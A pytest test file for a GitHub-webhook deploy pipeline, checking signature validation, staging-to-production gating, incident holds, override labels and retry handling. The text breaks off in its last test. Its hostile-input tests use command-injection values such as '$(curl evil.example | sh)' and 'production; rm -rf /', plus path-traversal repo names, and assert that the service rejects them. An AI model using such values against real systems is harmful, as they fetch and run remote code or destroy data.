"""Push-to-deploy: ``github_webhook`` and ``deploy_status`` as functions-framework serves them,
GitHub and Cloud Build (with ADC through google-auth) answered by checking servers on loopback."""

from __future__ import annotations

import hashlib
import hmac
import io
import json
import logging
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cloudevents.conversion import to_binary
from events import pubsub_event
from fakes.cloudbuild import ACCESS_TOKEN, TRIGGER, FakeCloudBuild, service_account_file
from fakes.github import TOKEN, FakeGitHub
from fakes.http import RecordingServer, Response
from functions_framework import create_app

from binderops import instance
from binderops.deploys import builds

MAIN = str(Path(__file__).resolve().parent.parent / "functions" / "main.py")
SECRET = "It's a Secret to Everybody"
REPO = "jupyterhub/mybinder.org-deploy"
SHA = "b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5"
OLD_SHA = "a1" * 20
PR_SHA = "d4" * 20


def guid(name: str) -> str:
    """A delivery id as GitHub makes them (a GUID), the same for the same name."""
    return str(uuid.uuid5(uuid.NAMESPACE_URL, name))


def sign(body: bytes, secret: str = SECRET) -> str:
    return "sha256=" + hmac.new(secret.encode(), body, hashlib.sha256).hexdigest()


def push(sha=SHA, ref="refs/heads/main", files=("mybinder/values.yaml",), commits=1, deleted=False):
    commit = {"id": sha, "added": [], "removed": [], "modified": list(files)}
    return {
        "ref": ref,
        "before": OLD_SHA,
        "after": "0" * 40 if deleted else sha,
        "created": False,
        "deleted": deleted,
        "repository": {"full_name": REPO, "default_branch": "main"},
        "pusher": {"name": "someone"},
        "head_commit": None if deleted else {**commit, "message": "Bump chart\n\ndetails"},
        "commits": [] if deleted else [commit] * commits,
    }


class Stack:
    """The two functions with their environment, and the servers they talk to."""

    def __init__(self, github: FakeGitHub, cloudbuild: FakeCloudBuild) -> None:
        self.github, self.cloudbuild = github, cloudbuild
        self.webhook = create_app("github_webhook", MAIN, "http").test_client()
        self.status = create_app("deploy_status", MAIN, "cloudevent").test_client()
        self.deliveries = 0

    def send(
        self,
        event: str,
        payload: dict,
        delivery: str | None = None,
        signature: str | None = None,
        body: bytes | None = None,
    ):
        self.deliveries += 1
        body = json.dumps(payload).encode() if body is None else body
        headers = {
            "X-GitHub-Event": event,
            "X-GitHub-Delivery": delivery or guid(f"delivery-{self.deliveries}"),
            "User-Agent": "GitHub-Hookshot/abc",
            "Content-Type": "application/json",
        }
        if signature != "":
            headers["X-Hub-Signature-256"] = signature or sign(body)
        return self.webhook.post("/", data=body, headers=headers)

    def report(self, build: dict, status: str, message_id: str | None = None):
        """Cloud Build publishing a status change on cloud-builds, delivered to deploy_status."""
        resource = self.cloudbuild.finish(build, status)
        event = pubsub_event(
            json.dumps(resource).encode(),
            {"buildId": build["id"], "status": status},
            message_id or f"{build['id']}-{status}",
            topic="cloud-builds",
        )
        headers, data = to_binary(event)
        return self.status.post("/", data=data, headers=headers)

    def runs(self, environment: str) -> list[dict]:
        return [
            b for b in self.cloudbuild.builds if b["substitutions"]["_ENVIRONMENT"] == environment
        ]


@pytest.fixture
def stack(tmp_path, function_env):
    github, cloudbuild = FakeGitHub(), FakeCloudBuild()
    with RecordingServer(github) as gh, RecordingServer(cloudbuild) as cb:
        github.url = gh.url
        function_env(
            **{
                "BINDEROPS_WAREHOUSE": f"duckdb://{tmp_path / 'w.duckdb'}",
                "BINDEROPS_GITHUB_WEBHOOK_SECRET": SECRET,
                "BINDEROPS_GITHUB_TOKEN": TOKEN,
                "BINDEROPS_GITHUB_API_URL": gh.url,
                "BINDEROPS_DEPLOY_REPOS": f"{REPO},jupyterhub/other",
                "BINDEROPS_DEPLOY_BACKEND": "cloudbuild",
                "BINDEROPS_CLOUDBUILD_TRIGGER": TRIGGER,
                "BINDEROPS_CLOUDBUILD_API_URL": cb.url,
                "BINDEROPS_INCIDENT_REPO": "jupyterhub/mybinder.org-incidents",
                "GOOGLE_APPLICATION_CREDENTIALS": str(
                    service_account_file(tmp_path, f"{cb.url}/token")
                ),
            }
        )
        stack = Stack(github, cloudbuild)
        stack.servers = (gh, cb)
        yield stack
        assert github.problems == [] and cloudbuild.problems == []


def staged(stack: Stack, sha=SHA) -> dict:
    """Push ``sha`` and let its staging build succeed; return the production build."""
    assert stack.send("push", push(sha)).status_code == 200
    staging = stack.runs("staging")[-1]
    for status in ("WORKING", "SUCCESS"):
        assert stack.report(staging, status).status_code == 200
    return stack.runs("production")[-1]


# Signatures
@pytest.mark.parametrize(
    "case",
    [
        "wrong secret",
        "tampered body",
        "missing header",
        "signature of a different body",
        "sha1 prefix",
        "not hex",
    ],
)
def test_a_forged_or_missing_signature_gets_401_and_does_nothing(stack, case):
    body = json.dumps(push()).encode()
    signature = {
        "wrong secret": sign(body, "guess"),
        "tampered body": sign(body),
        "missing header": "",
        "signature of a different body": sign(json.dumps(push(OLD_SHA)).encode()),
        "sha1 prefix": "sha1=" + hmac.new(SECRET.encode(), body, hashlib.sha1).hexdigest(),
        "not hex": "sha256=zz",
    }[case]
    sent = body.replace(b"Bump", b"Evil") if case == "tampered body" else body
    response = stack.send("push", {}, signature=signature, body=sent)
    assert response.status_code == 401
    assert response.get_json() == {"error": "missing or invalid X-Hub-Signature-256"}
    assert [s.requests for s in stack.servers] == [[], []]


def test_without_a_configured_secret_every_webhook_is_refused(stack, function_env, caplog):
    function_env(BINDEROPS_GITHUB_WEBHOOK_SECRET="")
    with caplog.at_level(logging.ERROR, logger="binderops"):
        assert stack.send("push", push(), signature=sign(b"", "")).status_code == 401
    assert "BINDEROPS_GITHUB_WEBHOOK_SECRET is not set" in caplog.text
    assert stack.cloudbuild.runs == []


def test_ping_unknown_events_bad_json_and_oversized_bodies(stack):
    assert (
        stack.send("ping", {"zen": "Keep it logically awesome.", "hook_id": 123}).status_code == 200
    )
    response = stack.send("star", {"action": "created", "repository": {"full_name": REPO}})
    assert response.status_code == 202 and "'star'" in response.get_json()["reason"]
    assert stack.send("push", {}, body=b"{not json").status_code == 400
    big = b" " * (25 * 1024 * 1024) + b"{}"
    assert (
        stack.webhook.post("/", data=big, headers={"X-Hub-Signature-256": sign(big)}).status_code
        == 413
    )
    assert stack.cloudbuild.runs == []


# push
def test_a_push_to_main_runs_the_trigger_and_creates_a_queued_deployment(stack):
    response = stack.send("push", push(), delivery="72d3162e-cc78-11e3-81ab-4c9367dc0958")
    assert response.status_code == 200
    assert response.get_json()["action"] == "started"
    assert stack.cloudbuild.runs == [
        {
            "projectId": "binder-prod",
            "triggerId": "deploy-trigger",
            "source": {
                "commitSha": SHA,
                "substitutions": {
                    "_ENVIRONMENT": "staging",
                    "_DELIVERY": "72d3162e-cc78-11e3-81ab-4c9367dc0958",
                    "_REPO": REPO,
                    "_KIND": "push",
                },
            },
        }
    ]
    assert (
        stack.cloudbuild.tokens_issued == 1
    )  # ADC: the service account's JWT exchanged once for a token
    [deployment] = stack.github.deployments
    assert deployment["sha"] == SHA and deployment["environment"] == "staging"
    assert deployment["payload"] == {
        "delivery": "72d3162e-cc78-11e3-81ab-4c9367dc0958",
        "kind": "push",
    }
    assert deployment["description"] == "push to main: Bump chart"
    [status] = stack.github.statuses[deployment["id"]]
    assert status["state"] == "queued" and status["log_url"].startswith(
        "https://console.cloud.google.com/cloud-build/builds/"
    )


def test_a_redelivered_webhook_or_a_second_event_for_the_sha_starts_nothing_more(stack):
    assert stack.send("push", push(), delivery=guid("d-1")).get_json()["action"] == "started"
    again = stack.send("push", push(), delivery=guid("d-1"))
    assert again.status_code == 200 and again.get_json()["action"] == "exists"
    assert stack.send("push", push(), delivery=guid("d-2")).get_json()["action"] == "exists"
    assert len(stack.cloudbuild.runs) == 1 and len(stack.github.deployments) == 1


@pytest.mark.parametrize(
    "payload, reason",
    [
        (push(deleted=True), "the branch was deleted"),
        (push(ref="refs/heads/feature"), "not refs/heads/main"),
        (push(files=("docs/source/index.md", "docs/howto/deploy.md")), "BINDEROPS_DEPLOY_IGNORE"),
        ({**push(), "repository": {"full_name": "someone/else"}}, "not in BINDEROPS_DEPLOY_REPOS"),
    ],
)
def test_pushes_that_deploy_nothing_say_why(stack, payload, reason):
    response = stack.send("push", payload)
    assert response.status_code == 202 and reason in response.get_json()["reason"]
    assert stack.cloudbuild.runs == [] and stack.github.deployments == []


def test_a_push_touching_docs_and_code_or_too_many_commits_to_list_deploys(stack):
    assert (
        stack.send("push", push(files=("docs/index.md", "mybinder/values.yaml"))).get_json()[
            "action"
        ]
        == "started"
    )
    other = "c3" * 20
    # GitHub lists 20 commits at most: the rest may touch anything.
    assert (
        stack.send("push", push(other, files=("docs/index.md",), commits=20)).get_json()["action"]
        == "started"
    )


# pull requests
def test_the_test_staging_label_deploys_the_pull_request_head_to_staging(stack):
    open_pull(stack)
    event = labelled()
    assert stack.send("pull_request", event).get_json()["action"] == "started"
    [run] = stack.cloudbuild.runs
    assert (
        run["source"]["commitSha"] == PR_SHA
        and run["source"]["substitutions"]["_KIND"] == "pull_request"
    )
    other = {**event, "label": {"name": "documentation"}}
    assert stack.send("pull_request", other).status_code == 202


def comment(association: str, body="/test-this-pr", login="maintainer", created_at=None):
    """A new comment by ``login`` (the fake gives "maintainer" write access), made just now."""
    created_at = created_at or datetime.now(UTC).isoformat(timespec="seconds")
    return {
        "action": "created",
        "issue": {
            "number": 7,
            "pull_request": {"url": f"https://api.github.com/repos/{REPO}/pulls/7"},
        },
        "comment": {
            "body": body,
            "author_association": association,
            "user": {"login": login},
            "created_at": created_at,
        },
        "repository": {"full_name": REPO},
    }


def open_pull(stack: Stack, sha: str = PR_SHA, head_repo: str = REPO) -> None:
    """Pull request #7, its head ``sha`` on a branch of ``head_repo`` (REPO, or a fork)."""
    stack.github.pulls[(REPO, 7)] = {
        "number": 7,
        "head": {"sha": sha, "ref": "feat", "repo": {"full_name": head_repo}},
        "labels": [],
    }


def labelled(sha: str = PR_SHA, sender: str = "maintainer", head_repo: str = REPO) -> dict:
    """The test-staging label added to #7 by ``sender`` while its head was ``sha``."""
    return {
        "action": "labeled",
        "label": {"name": "test-staging"},
        "number": 7,
        "sender": {"login": sender},
        "pull_request": {
            "head": {"sha": sha, "ref": "feat", "repo": {"full_name": head_repo}},
            "base": {"ref": "main"},
            "merged": False,
            "labels": [{"name": "test-staging"}],
        },
        "repository": {"full_name": REPO},
    }


@pytest.mark.parametrize("login", ["owner", "maintainer"])  # admin, write (GitHub's maintain)
def test_test_this_pr_by_someone_with_write_access_deploys_the_head_to_staging(stack, login):
    open_pull(stack)
    assert (
        stack.send("issue_comment", comment("NONE", login=login)).get_json()["action"] == "started"
    )
    [run] = stack.cloudbuild.runs
    assert (
        run["source"]["commitSha"] == PR_SHA
        and run["source"]["substitutions"]["_ENVIRONMENT"] == "staging"
    )


@pytest.mark.parametrize(
    "association, permission",
    [("MEMBER", "read"), ("COLLABORATOR", "read"), ("CONTRIBUTOR", None), ("NONE", None)],
)
def test_test_this_pr_by_anyone_without_write_access_gets_one_reply_and_no_deploy(
    stack, association, permission
):
    """Trust is write access asked of GitHub, not the author association the payload claims:
    an org MEMBER with read access may not deploy."""
    if permission:
        stack.github.permissions["visitor"] = permission
    open_pull(stack)
    for _ in range(2):  # asking again, or a redelivery, gets no second reply
        response = stack.send("issue_comment", comment(association, login="visitor"))
        assert response.status_code == 202 and response.get_json()["action"] == "refused"
    [reply] = stack.github.comments[7]
    assert "@visitor" in reply["body"] and "write access" in reply["body"]
    assert (
        stack.cloudbuild.runs == [] and ("GET", f"/repos/{REPO}/pulls/7") not in stack.github.served
    )


def test_other_comments_and_comments_on_issues_start_nothing(stack):
    assert (
        stack.send("issue_comment", comment("OWNER", body="looks good /test-this-pr")).status_code
        == 202
    )
    on_issue = comment("OWNER")
    del on_issue["issue"]["pull_request"]
    assert stack.send("issue_comment", on_issue).status_code == 202
    assert stack.cloudbuild.runs == [] and stack.github.comments.get(7, []) == []


# deploy_status
@pytest.mark.parametrize("status, state", sorted(builds.DEPLOYMENT_STATE.items()))
def test_every_cloud_build_status_maps_to_a_deployment_state(stack, status, state):
    stack.send("push", push())
    build = stack.runs("staging")[0]
    assert stack.report(build, status).status_code == 200
    expected = ["queued"] + ([state] if state and state != "queued" else [])
    assert stack.github.states("staging") == [expected]
    if state and state != "queued":
        assert stack.github.statuses[1][-1]["log_url"] == build["logUrl"]


def test_staging_success_promotes_a_push_to_production_and_both_are_recorded(stack):
    production = staged(stack)
    assert production["substitutions"]["COMMIT_SHA"] == SHA
    assert (
        production["substitutions"]["_DELIVERY"]
        == stack.runs("staging")[0]["substitutions"]["_DELIVERY"]
    )
    stack.report(production, "WORKING")
    stack.report(production, "SUCCESS")
    assert stack.github.states("staging") == [["queued", "in_progress", "success"]]
    assert stack.github.states("production") == [["queued", "in_progress", "success"]]
    rows = instance.warehouse().query(
        "SELECT environment, sha, trigger_kind, status, build_status, duration_seconds FROM "
        "deployments ORDER BY environment DESC"
    )
    assert rows == [
        {
            "environment": "staging",
            "sha": SHA,
            "trigger_kind": "push",
            "status": "success",
            "build_status": "SUCCESS",
            "duration_seconds": 456.0,
        },
        {
            "environment": "production",
            "sha": SHA,
            "trigger_kind": "push",
            "status": "success",
            "build_status": "SUCCESS",
            "duration_seconds": 456.0,
        },
    ]


@pytest.mark.parametrize("status", ["FAILURE", "TIMEOUT", "INTERNAL_ERROR", "CANCELLED", "EXPIRED"])
def test_a_failed_staging_build_never_reaches_production(stack, status):
    stack.send("push", push())
    stack.report(stack.runs("staging")[0], status)
    assert stack.runs("production") == []
    assert stack.github.states("production") == []


def test_a_pull_request_on_staging_is_not_promoted(stack):
    open_pull(stack)
    stack.send("issue_comment", comment("MEMBER"))
    stack.report(stack.runs("staging")[0], "SUCCESS")
    assert stack.runs("production") == []


def test_a_redelivered_or_late_build_message_changes_nothing(stack):
    stack.send("push", push())
    build = stack.runs("staging")[0]
    for _ in range(3):
        stack.report(build, "SUCCESS", message_id="m-1")
    stack.report(build, "WORKING", message_id="m-0")  # arrives last, says less
    assert stack.github.states("staging") == [["queued", "success"]]
    assert len(stack.runs("production")) == 1
    assert instance.warehouse().query("SELECT COUNT(*) AS n FROM raw.deployments") == [{"n": 1}]


def test_builds_that_are_not_deploys_are_ignored(stack):
    other = {"id": "x-1", "status": "SUCCESS", "substitutions": {"COMMIT_SHA": SHA}, "tags": []}
    headers, data = to_binary(
        pubsub_event(
            json.dumps(other).encode(),
            {"buildId": "x-1", "status": "SUCCESS"},
            topic="cloud-builds",
        )
    )
    assert stack.status.post("/", data=data, headers=headers).status_code == 200
    assert stack.github.served == [] and stack.cloudbuild.runs == []


# Incidents and overrides
def test_an_open_incident_holds_production_but_not_staging(stack):
    incident = stack.github.add_issue(
        "jupyterhub/mybinder.org-incidents", "Function error rate", ["incident"]
    )
    stack.send("push", push())
    stack.report(stack.runs("staging")[0], "SUCCESS")
    assert stack.runs("production") == []
    [held] = [d for d in stack.github.deployments if d["environment"] == "production"]
    [status] = stack.github.statuses[held["id"]]
    assert status["state"] == "queued"
    assert status["description"].startswith(f"Held: incident #{incident['number']} is open")
    # Closing the incident releases the held sha.
    incident["state"] = "closed"
    closed = {
        "action": "closed",
        "issue": {"number": incident["number"], "labels": [{"name": "incident"}]},
        "repository": {"full_name": "jupyterhub/mybinder.org-incidents"},
    }
    assert stack.send("issues", closed).status_code == 200
    [production] = stack.runs("production")
    assert production["substitutions"]["COMMIT_SHA"] == SHA
    assert stack.github.states("production") == [["queued", "queued"]]


def merged_pull(stack: Stack, number=9, sha=SHA, base="main", labelled_by="maintainer") -> dict:
    """Pull request ``number``, merged into ``base`` as ``sha`` (which main then holds), with
    the override label added by ``labelled_by``: what GitHub's API answers about it."""
    pull = {
        "number": number,
        "head": {"sha": PR_SHA, "repo": {"full_name": REPO}},
        "base": {"ref": base},
        "merged": True,
        "merge_commit_sha": sha,
        "merged_at": "2026-03-01T12:00:00Z",
        "labels": [{"name": "deploy-during-incident"}],
    }
    stack.github.pulls[(REPO, number)] = pull
    stack.github.branches.setdefault("main", []).append(sha)
    stack.github.label(REPO, number, "deploy-during-incident", labelled_by)
    return pull


def test_the_override_label_on_the_merged_pull_request_deploys_during_an_incident(stack):
    stack.github.add_issue("jupyterhub/mybinder.org-incidents", "Launch failures", ["incident"])
    merged_pull(stack)
    staged(stack)
    [production] = stack.runs("production")
    assert production["substitutions"]["COMMIT_SHA"] == SHA


def test_an_override_label_added_by_a_triager_keeps_the_hold(stack):
    stack.github.permissions["triager"] = "read"
    stack.github.add_issue("jupyterhub/mybinder.org-incidents", "Launch failures", ["incident"])
    merged_pull(stack, labelled_by="triager")
    staging_succeeds(stack)
    assert stack.runs("production") == []
    assert stack.github.states("production") == [["queued"]]


def test_labelling_a_merged_pull_request_with_the_override_releases_it(stack):
    stack.github.add_issue("jupyterhub/mybinder.org-incidents", "Launch failures", ["incident"])
    stack.send("push", push())
    stack.report(stack.runs("staging")[0], "SUCCESS")
    assert stack.runs("production") == []
    merged_pull(stack)
    labelled = override_label_on_merged_pr()
    assert stack.send("pull_request", labelled).get_json()["action"] == "started"
    [production] = stack.runs("production")
    assert production["substitutions"]["_KIND"] == "override"


def override_label_on_merged_pr(sender="maintainer") -> dict:
    """``sender`` adds the override label to merged PR #9, whose merge commit is SHA."""
    return {
        "action": "labeled",
        "label": {"name": "deploy-during-incident"},
        "number": 9,
        "sender": {"login": sender},
        "pull_request": {
            "head": {"sha": PR_SHA},
            "merged": True,
            "merge_commit_sha": SHA,
            "labels": [],
        },
        "repository": {"full_name": REPO},
    }


def refusal_comments(stack: Stack, number=9) -> list[str]:
    return [c["body"] for c in stack.github.comments.get(number, [])]


@pytest.mark.parametrize(
    ("case", "reason"),
    [
        ("a triager labelled it", "without write access"),
        ("someone GitHub does not know labelled it", "without write access"),
        ("merged into another branch", "not the deploy branch main"),
        ("its merge commit is not on main", "is not on main"),
        ("GitHub says it is not merged", "is not merged"),
    ],
)
def test_the_override_is_refused_with_a_comment_unless_github_confirms_it(stack, case, reason):
    stack.github.permissions["triager"] = "read"
    incident_open(stack)
    staging_succeeds(stack)
    pull = merged_pull(stack)
    sender = "maintainer"
    if case == "a triager labelled it":
        sender = "triager"
    elif case == "someone GitHub does not know labelled it":
        sender = "stranger"
    elif case == "merged into another branch":
        pull["base"]["ref"] = "staging-experiments"
    elif case == "its merge commit is not on main":
        stack.github.branches["main"] = ["e5" * 20]  # force-pushed away
    else:  # the payload claims a merge GitHub does not know of
        pull["merged"] = False
    delivery = guid(case)
    for _ in range(2):  # a redelivery comments nothing more
        response = stack.send("pull_request", override_label_on_merged_pr(sender), delivery)
        assert response.get_json()["action"] == "refused"
        assert reason in response.get_json()["reason"]
    assert stack.runs("production") == []
    [comment] = refusal_comments(stack)
    assert reason in comment and "Nothing was deployed to production" in comment


def test_a_trial_build_of_the_same_commit_never_passes_the_staging_gate(stack):
    """A labelled pull request built its head on staging; merged as that very commit (a
    rebase merge) whose push build has not succeeded, the override still waits."""
    incident_open(stack)
    stack.github.pulls[(REPO, 7)] = {
        "number": 7,
        "head": {"sha": SHA, "repo": {"full_name": REPO}},
        "merged": False,
    }
    labelled = {
        "action": "labeled",
        "label": {"name": "test-staging"},
        "number": 7,
        "sender": {"login": "maintainer"},
        "pull_request": {"head": {"sha": SHA}, "merged": False, "labels": []},
        "repository": {"full_name": REPO},
    }
    assert stack.send("pull_request", labelled).get_json()["action"] == "started"
    [trial] = stack.runs("staging")
    assert trial["substitutions"]["_KIND"] == "pull_request"
    stack.report(trial, "SUCCESS")
    merged_pull(stack, number=9, sha=SHA)
    response = stack.send("pull_request", override_label_on_merged_pr())
    assert response.get_json()["action"] == "refused"
    assert "staging has not succeeded" in response.get_json()["reason"]
    assert stack.runs("production") == []
    assert "staging has not succeeded" in refusal_comments(stack)[0]


def test_the_override_label_cannot_skip_a_failed_staging(stack):
    stack.send("push", push())
    stack.report(stack.runs("staging")[0], "FAILURE")
    merged_pull(stack)
    labelled = override_label_on_merged_pr()
    response = stack.send("pull_request", labelled)
    assert (
        response.get_json()["action"] == "refused"
        and "staging has not succeeded" in response.get_json()["reason"]
    )
    assert stack.runs("production") == []


def test_a_failed_production_deploy_rolls_back_to_the_last_good_sha_when_configured(
    stack, function_env
):
    function_env(BINDEROPS_DEPLOY_ROLLBACK="true")
    good = staged(stack, OLD_SHA)
    stack.report(good, "SUCCESS")
    bad = staged(stack, SHA)
    stack.report(bad, "FAILURE")
    stack.report(bad, "FAILURE")  # redelivered: one rollback
    rollbacks = [b for b in stack.runs("production") if b["substitutions"]["_KIND"] == "rollback"]
    assert [b["substitutions"]["COMMIT_SHA"] for b in rollbacks] == [OLD_SHA]
    assert rollbacks[0]["substitutions"]["_DELIVERY"] == f"rollback-{bad['id']}"
    stack.report(rollbacks[0], "FAILURE")  # a failed rollback does not roll back again
    assert (
        len([b for b in stack.runs("production") if b["substitutions"]["_KIND"] == "rollback"]) == 1
    )


# Failures downstream
@pytest.mark.parametrize("status", [500, 503])
def test_a_build_queued_but_answered_with_a_5xx_is_looked_for_not_started_again(stack, status):
    """triggers.run queued the build, then answered 5xx: binderops finds it by its tags, so
    one push makes one build, one Deployment and one queued status."""
    stack.cloudbuild.errors_after_run = [status]
    response = stack.send("push", push(), delivery=guid("d-5xx"))
    assert response.status_code == 200 and response.get_json()["action"] == "started"
    assert len(stack.cloudbuild.runs) == 1 and len(stack.cloudbuild.builds) == 1
    assert response.get_json()["build"] == stack.cloudbuild.builds[0]["id"]
    assert stack.github.states("staging") == [["queued"]]
    again = stack.send("push", push(), delivery=guid("d-5xx"))  # GitHub's redelivery
    assert again.get_json()["action"] == "exists" and len(stack.cloudbuild.builds) == 1


def test_github_answering_5xx_after_creating_makes_no_second_deployment_or_status(stack):
    stack.github.errors_after_create = [502, 502]  # the Deployment, then its queued status
    assert stack.send("push", push()).get_json()["action"] == "started"
    assert len(stack.github.deployments) == 1
    assert stack.github.states("staging") == [["queued"]]


def test_cloud_build_down_answers_503_and_a_redelivery_recovers_without_duplicates(stack):
    stack.cloudbuild.faults = [Response(503, {"error": {"message": "backend unavailable"}})] * 2
    response = stack.send("push", push(), delivery=guid("d-9"))
    assert response.status_code == 503 and "redeliver" in response.get_json()["error"]
    assert stack.send("push", push(), delivery=guid("d-9")).get_json()["action"] == "started"
    assert len(stack.cloudbuild.builds) == 1 and len(stack.github.deployments) == 1


def test_github_unavailable_during_deploy_status_raises_so_pubsub_retries(stack):
    stack.send("push", push())
    build = stack.runs("staging")[0]
    stack.github.faults = [Response(502, {"message": "Server Error"})] * 3
    assert stack.report(build, "SUCCESS").status_code == 500
    assert stack.report(build, "SUCCESS").status_code == 200
    assert stack.github.states("staging") == [["queued", "success"]]
    assert len(stack.runs("production")) == 1


def test_secrets_reach_neither_logs_nor_responses(stack, caplog):
    stack.cloudbuild.faults = [Response(500, {"error": {"message": "oops"}})] * 2
    with caplog.at_level(logging.DEBUG):
        bodies = [
            stack.send("push", push(), delivery=guid("s-1")).get_data(as_text=True),
            stack.send("push", push(), delivery=guid("s-1")).get_data(as_text=True),
        ]
        build = stack.runs("staging")[0]
        stack.github.faults = [
            Response(
                403,
                {"message": "API rate limit exceeded"},
                {"X-RateLimit-Remaining": "0", "X-RateLimit-Reset": "0"},
            )
        ]
        stack.report(build, "SUCCESS")
    text = caplog.text + "".join(bodies) + repr(instance.settings())
    for secret in (SECRET, TOKEN, ACCESS_TOKEN):
        assert secret not in text


def test_github_refusing_the_deployment_does_not_stop_the_deploy(stack, caplog):
    stack.github.faults = [Response(422, {"message": "No ref found for: b2c3"})]
    assert stack.send("push", push()).get_json()["action"] == "started"
    assert len(stack.cloudbuild.builds) == 1
    assert "GitHub refused a deployment report: GitHub GET" in caplog.text


def test_a_misconfigured_incident_repository_is_logged_and_acknowledged(stack, caplog):
    stack.github.missing_repos.add("jupyterhub/mybinder.org-incidents")
    stack.send("push", push())
    assert (
        stack.report(stack.runs("staging")[0], "SUCCESS").status_code == 200
    )  # acknowledged: retrying cannot help
    assert (
        "GitHub GET /repos/jupyterhub/mybinder.org-incidents/issues: HTTP 404: Not Found; acknowledged"
        in caplog.text
    )
    assert stack.runs("production") == []


def test_the_documented_cloud_builds_message_reads_as_a_failed_staging_deploy():
    resource = json.loads(
        (Path(__file__).parent / "fixtures" / "cloud-build-notification.json").read_text()
    )
    build = builds.Build.from_resource(resource)
    assert build.is_deploy and (build.environment, build.status, build.sha[:8]) == (
        "staging",
        "FAILURE",
        "b2c3d4e5",
    )
    assert build.duration_seconds == 456.0 and builds.DEPLOYMENT_STATE[build.status] == "failure"


def test_a_push_of_a_sha_tried_on_staging_by_label_still_goes_to_production(stack):
    open_pull(stack, SHA)
    stack.send("pull_request", labelled(SHA))
    stack.report(stack.runs("staging")[0], "SUCCESS")
    assert stack.runs("production") == []  # a trial stays on staging
    assert (
        stack.send("push", push(SHA)).get_json()["action"] == "started"
    )  # the fast-forwarded push
    push_build = stack.runs("staging")[-1]
    assert push_build["substitutions"]["_KIND"] == "push"
    stack.report(push_build, "SUCCESS")
    assert len(stack.runs("production")) == 1


# Hostile input: nothing odd reaches Cloud Build, text cannot lift the hold
def incident_open(stack: Stack) -> None:
    stack.github.add_issue("jupyterhub/mybinder.org-incidents", "Launch failures", ["incident"])


def staging_succeeds(stack: Stack) -> None:
    assert stack.send("push", push()).status_code == 200
    assert stack.report(stack.runs("staging")[-1], "SUCCESS").status_code == 200


def test_the_override_label_in_a_commit_message_does_not_lift_the_hold(stack):
    incident_open(stack)
    stack.github.commit_messages[SHA] = "Sneak this in [deploy-during-incident]"
    staging_succeeds(stack)
    assert stack.runs("production") == []
    assert stack.github.states("production") == [["queued"]]


def test_the_override_label_on_a_pull_request_that_did_not_produce_the_push_is_ignored(stack):
    """An open PR (from anyone) whose head is the pushed sha carries the label: still held."""
    incident_open(stack)
    stack.github.pulls[(REPO, 10)] = {
        "number": 10,
        "head": {"sha": SHA},
        "merge_commit_sha": "e5" * 20,
        "merged_at": None,
        "labels": [{"name": "deploy-during-incident"}],
    }
    staging_succeeds(stack)
    assert stack.runs("production") == []


@pytest.mark.parametrize(
    "delivery", ["d-1", "", "72d3162e-cc78-11e3-81ab-4c9367dc0958 extra", "$(curl evil)"]
)
def test_a_delivery_id_that_is_not_a_guid_is_refused_before_anything_happens(stack, delivery):
    response = stack.send("push", push(), delivery=delivery or " ")
    assert response.status_code == 400
    assert "GUID" in response.get_json()["error"]
    assert stack.cloudbuild.builds == [] and stack.servers[0].requests == []


@pytest.mark.parametrize(
    "sha",
    [
        "$(curl evil.example | sh)",
        "B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4E5",
        "b2c3d4e5",
        "refs/heads/main",
    ],
)
def test_a_sha_that_is_not_forty_hex_digits_is_refused_before_anything_happens(stack, sha):
    response = stack.send("push", push(sha))
    assert response.status_code == 400
    assert response.get_json()["error"].startswith("sha ")
    assert stack.cloudbuild.builds == []
    assert [r for r in stack.servers[0].requests if r.method == "POST"] == []


def test_repository_names_are_compared_as_github_does_without_case(stack):
    payload = push()
    payload["repository"]["full_name"] = "JupyterHub/MyBinder.org-Deploy"
    assert stack.send("push", payload).get_json()["action"] == "started"
    [staging] = stack.runs("staging")
    assert staging["substitutions"]["_REPO"] == REPO  # the operator's spelling


@pytest.mark.parametrize(
    "substitutions",
    [
        {"_REPO": "someone/else"},
        {"_REPO": "../jupyterhub/mybinder.org-deploy"},
        {"_REPO": "jupyterhub/.."},
        {"_DELIVERY": "not-a-guid"},
        {"_ENVIRONMENT": "production; rm -rf /"},
    ],
)
def test_deploy_status_ignores_builds_it_does_not_deploy(stack, substitutions):
    assert stack.send("push", push()).status_code == 200
    [staging] = stack.runs("staging")
    staging["substitutions"].update(substitutions)
    before = len(stack.servers[0].requests)
    assert stack.report(staging, "SUCCESS").status_code == 200
    assert len(stack.servers[0].requests) == before  # not a word to GitHub
    assert stack.runs("production") == []


@pytest.mark.parametrize(
    "resource",
    [
        {"id": "b-1", "substitutions": ["_REPO", REPO]},
        {"id": "b-1", "status": {"a": 1}, "createTime": "yesterday"},
        {"id": ["b-1"], "sourceProvenance": "none"},
        {"id": "b-1", "substitutions": {"_REPO": 7, "COMMIT_SHA": None}},
    ],
)
def test_a_build_message_of_the_wrong_shape_is_acknowledged(stack, resource):
    event = pubsub_event(json.dumps(resource).encode(), {}, "m-odd", topic="cloud-builds")
    headers, data = to_binary(event)
    assert stack.status.post("/", data=data, headers=headers).status_code == 200


# Who may deploy a pull request, and what
def test_a_labeller_without_write_access_deploys_nothing_and_is_answered_once(stack):
    stack.github.permissions["triager"] = "read"
    open_pull(stack)
    for _ in range(2):
        assert (
            stack.send("pull_request", labelled(sender="triager")).get_json()["action"] == "refused"
        )
    [reply] = stack.github.comments[7]
    assert "@triager" in reply["body"] and stack.cloudbuild.runs == []


def test_a_head_pushed_after_the_label_is_refused_with_a_comment(stack):
    open_pull(stack, sha="e5" * 20)  # pushed after the label went on at PR_SHA
    response = stack.send("pull_request", labelled(PR_SHA))
    assert response.get_json()["action"] == "refused" and "moved" in response.get_json()["reason"]
    [reply] = stack.github.comments[7]
    assert "changed after @maintainer asked" in reply["body"]
    assert stack.cloudbuild.runs == []


def test_a_head_committed_after_the_comment_is_refused_with_a_comment(stack):
    asked = datetime.now(UTC) - timedelta(seconds=30)
    open_pull(stack)
    stack.github.commit_dates[PR_SHA] = (asked + timedelta(seconds=20)).isoformat()
    response = stack.send("issue_comment", comment("MEMBER", created_at=asked.isoformat()))
    assert response.get_json()["action"] == "refused"
    assert stack.cloudbuild.runs == [] and len(stack.github.comments[7]) == 1


def test_a_redelivered_old_comment_deploys_nothing(stack):
    open_pull(stack)
    old = (datetime.now(UTC) - timedelta(hours=3)).isoformat()
    response = stack.send("issue_comment", comment("MEMBER", created_at=old))
